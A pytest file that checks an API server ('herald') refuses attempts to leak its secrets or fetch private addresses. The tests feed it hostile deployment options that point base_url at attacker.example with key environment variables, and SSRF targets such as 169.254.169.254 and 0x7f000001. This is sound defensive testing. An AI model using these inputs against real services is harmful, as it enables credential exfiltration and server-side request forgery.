"""Attack: make the server send its own secrets (or fetch private addresses) through the API.

Every request below is refused at once with a 4xx that says what to do instead, and nothing is
stored in the event log.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from herald.api import create_app
from herald.bus import EventQuery

from .conftest import Env

KEY = "test-key-for-the-secrets-api-tests"
SECRETS = {"upstream": {"value": "sk-upstream-value", "hosts": ["93.184.216.34:8000"]}}


@pytest.fixture
async def api(sqlite_env: Env) -> AsyncIterator[tuple[httpx.AsyncClient, Env]]:
    h = await sqlite_env.start(security={"secrets": SECRETS})
    app = create_app(h, KEY, manage_lifecycle=False)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app),
        base_url="http://test",
        headers={"Authorization": f"Bearer {KEY}"},
    ) as c:
        yield c, sqlite_env


async def stored(env: Env) -> list[Any]:
    assert env.herald is not None
    return await env.herald.log.query(EventQuery(limit=1000))


ENDPOINT = "http://93.184.216.34:8000/v1#m"
ENV_NAMES = ["HERALD_API_KEY", "AWS_SECRET_ACCESS_KEY", "PATH", "NO_SUCH_VARIABLE_AT_ALL"]


@pytest.mark.parametrize("name", ENV_NAMES)
async def test_evaluation_request_naming_an_env_var_is_refused(
    api: tuple[httpx.AsyncClient, Env], name: str
) -> None:
    c, env = api
    body = {"target": ENDPOINT, "suite": "tiny", "api_key_env": name}
    r = await c.post("/v1/evaluations", json=body)
    assert r.status_code == 422, r.text
    err = r.json()["error"]
    assert err["code"] == "env_reference_refused"
    assert "api_key_secret" in err["message"]
    assert "not set" not in err["message"]  # never says whether the variable exists
    msg = {"type": "evaluation.requested", "data": {"target": ENDPOINT, "suite": "tiny"}}
    msg["data"]["api_key_env"] = name  # type: ignore[index]
    r = await c.post("/v1/messages", json=msg)
    assert r.status_code == 422, r.text
    assert "api_key_secret" in r.json()["error"]["message"]
    assert await stored(env) == []


TARGET = {"model": "models:/m/1", "backend": "openai"}
HOSTILE_OPTIONS = [
    {"base_url": "https://attacker.example/v1", "api_key_env": "HERALD_API_KEY"},
    {"base_url": "https://attacker.example/v1", "secret_env": "HERALD_API_KEY"},
    {"base_url": "https://attacker.example/v1", "api_key": "sk-in-clear"},
]


@pytest.mark.parametrize("options", HOSTILE_OPTIONS)
async def test_deployment_options_naming_env_vars_or_keys_are_refused(
    api: tuple[httpx.AsyncClient, Env], options: dict[str, str]
) -> None:
    c, env = api
    target = {**TARGET, "options": options}
    r = await c.post("/v1/deployments", json={"name": "evil", "targets": [target]})
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == "env_reference_refused"
    assert "api_key_secret" in r.json()["error"]["message"]
    msg = {"type": "deployment.requested", "data": {"name": "evil", "targets": [target]}}
    r = await c.post("/v1/messages", json=msg)
    assert r.status_code == 422, r.text
    assert "not accepted" in r.json()["error"]["message"]
    assert await stored(env) == []


async def test_a_secret_is_only_available_for_its_host(
    api: tuple[httpx.AsyncClient, Env],
) -> None:
    c, env = api
    answers = []
    for target, name in [
        ("http://93.184.216.35:8000/v1#m", "upstream"),  # another host
        ("http://93.184.216.34:9000/v1#m", "upstream"),  # another port of its host
        (ENDPOINT, "no-such-secret"),  # unknown: the same answer as a wrong host
    ]:
        r = await c.post(
            "/v1/evaluations", json={"target": target, "suite": "tiny", "api_key_secret": name}
        )
        assert r.status_code == 422, r.text
        err = r.json()["error"]
        assert err["code"] == "secret_unavailable"
        assert "sk-upstream-value" not in r.text
        answers.append(err["message"].replace("no-such-secret", "upstream").split(" for host")[0])
    assert len(set(answers)) == 1
    assert await stored(env) == []
    r = await c.post(
        "/v1/evaluations", json={"target": ENDPOINT, "suite": "tiny", "api_key_secret": "upstream"}
    )
    assert r.status_code == 202, r.text
    [event] = await stored(env)
    assert event.data["api_key_secret"] == "upstream"
    assert "sk-upstream-value" not in str(event.data)


PRIVATE_URLS = [
    "http://127.0.0.1:8700/v1",
    "http://[::1]:8700/v1",
    "http://169.254.169.254/latest",
    "http://10.0.0.5:8000/v1",
    "http://0x7f000001:8700/v1",
    "http://localhost:8700/v1",
]


@pytest.mark.parametrize("url", PRIVATE_URLS)
async def test_private_endpoints_are_refused_at_the_edge(
    api: tuple[httpx.AsyncClient, Env], url: str
) -> None:
    c, env = api
    r = await c.post("/v1/evaluations", json={"target": f"{url}#m", "suite": "tiny"})
    assert r.status_code == 403, r.text
    assert r.json()["error"]["code"] == "egress_denied"
    assert "security.egress.allowed_hosts" in r.json()["error"]["message"]
    target = {**TARGET, "options": {"base_url": url}}
    r = await c.post("/v1/deployments", json={"name": "private", "targets": [target]})
    assert r.status_code == 403, r.text
    msg = {"type": "documents.ingest.requested", "data": {"collection": "c", "source": url}}
    r = await c.post("/v1/messages", json=msg)
    assert r.status_code == 403, r.text
    assert await stored(env) == []


async def test_secrets_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    from herald.security.secrets import listing, secret_for
    from herald.settings import Settings

    monkeypatch.setenv("HERALD_SECURITY__SECRETS__OPENAI__VALUE", "sk-from-env")
    monkeypatch.setenv("HERALD_SECURITY__SECRETS__OPENAI__HOSTS", '["api.openai.com"]')
    s = Settings()
    assert secret_for("openai", "https://api.openai.com/v1", s) == "sk-from-env"
    assert listing(s) == [{"name": "openai", "hosts": ["api.openai.com"]}]
